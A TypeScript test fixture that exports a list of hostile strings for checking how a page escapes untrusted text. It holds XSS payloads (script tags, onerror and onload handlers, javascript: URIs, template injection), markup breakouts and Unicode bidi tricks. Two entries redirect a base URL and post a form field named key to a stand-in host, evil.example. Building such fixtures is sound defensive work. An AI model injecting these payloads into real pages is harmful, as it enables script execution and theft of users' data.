// Texts that try to break out of the place where a page shows them.
export const nastyTexts: readonly string[] = [
  '<script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</script><script>alert(1)</script>',
  '<!--', '-->', ']]>', '<![CDATA[<b>',
  '&lt;b&gt; &amp;amp; &#60;script&#62;',
  '<svg/onload=alert(1)>',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)}',
  '</textarea></select></details></main></body></html>',
  '\u202e顛倒\u202e\u202e反写',
  '\u2066\u2067隔离不闭合',
  'עברית ו-العربية 与中文',
  '长'.repeat(2_000),
  'w'.repeat(2_000),
  `${'e\u0301'.repeat(300)}${'👩‍👩‍👧‍👦'.repeat(50)}`,
  '<style>*{display:none}</style><base href="//evil.example/">',
  '</p></div></article><form action=//evil.example><input name=key>'
]
